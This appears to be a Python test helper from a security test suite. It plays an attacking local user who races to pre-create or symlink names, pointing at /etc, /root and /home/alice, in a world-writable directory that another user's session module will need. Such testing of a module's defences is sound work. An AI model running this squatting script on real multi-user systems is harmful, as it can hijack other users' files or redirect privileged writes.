#!/usr/bin/python3
# The squatting user of attack_squat.sh (issue 6, entry 5), run as that user.
#   squatter.py STOP_FILE PATH...
# Until STOP_FILE exists, puts and removes at each PATH (names another user's
# session will need, in a world-writable directory) in turn: a directory of
# hers holding a SQUAT marker (0755 and 0700), a symlink to /etc, to /root
# and to /home/alice, a FIFO, a regular file. Errors (the name is taken, by
# the module or by the previous round) are expected: she just goes on.
# Prints how many objects she planted.
import os
import shutil
import sys
import time

stop, paths = sys.argv[1], sys.argv[2:]
planted = 0


def remove(path):
    try:
        if os.path.islink(path) or not os.path.isdir(path):
            os.unlink(path)
        else:
            shutil.rmtree(path)
    except OSError:
        pass


def plant(kind, path):
    global planted
    try:
        if kind.startswith("dir"):
            os.mkdir(path, 0o755 if kind == "dir755" else 0o700)
            open(os.path.join(path, "SQUAT"), "w").close()
        elif kind.startswith("link"):
            os.symlink(kind[4:], path)
        elif kind == "fifo":
            os.mkfifo(path, 0o600)
        else:
            open(path, "w").close()
        planted += 1
    except OSError:
        pass


kinds = ["dir755", "dir700", "link/etc", "link/root", "link/home/alice", "fifo", "file"]
i = 0
while not os.path.exists(stop):
    kind = kinds[i % len(kinds)]
    i += 1
    for path in paths:
        plant(kind, path)
    time.sleep(0.001)
    for path in paths:
        remove(path)
    time.sleep(0.001)  # a gap, so the module wins now and then
print(planted)
